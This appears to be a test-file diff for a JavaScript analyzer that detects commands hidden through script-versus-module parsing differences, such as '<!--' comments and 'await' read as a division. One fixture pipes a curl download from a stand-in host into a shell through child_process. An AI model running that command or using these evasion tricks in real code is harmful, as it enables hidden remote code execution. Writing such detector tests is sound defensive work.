@@ -33,6 +33,28 @@ describe('factsOfScript', () => {
     expect(starts(text)).toBe(true)
   })
 
+  it.each([
+    ['a module hides from scripts behind a comment as in HTML', `let x = 1, y = 2\nx <!--y; ${RUN}\n`],
+    [
+      'a module hides from scripts, with a division by a name for scripts',
+      `globalThis.await = 1\nlet g = 1, x = 1, y = 1\nawait / 2 /g\nx <!--y; ${RUN}\n`,
+    ],
+    [
+      'a script divides by a name that a module waits for',
+      `globalThis.await = 1\nlet g = 1\nawait / ${RUN} / g\n`,
+    ],
+    ['a script runs and a module takes for text', `x <!--a[\`\n${RUN}\n//\`]\n`],
+  ])('reads what %s', (_, text) => {
+    expect(starts(text)).toBe(true)
+  })
+
+  it('tells a command once that both readings start', () => {
+    expect(
+      factsOfScript("x <!--y\nrequire('child_process').exec('curl -s http://a.test/b | sh')\n", false)
+        .commands.length,
+    ).toBe(1)
+  })
+
   it('says that it could not read what no parser takes', () => {
     expect(factsOfScript('let let = {', false).facts).toEqual([{ query: 'unread', at: 0 }])
   })
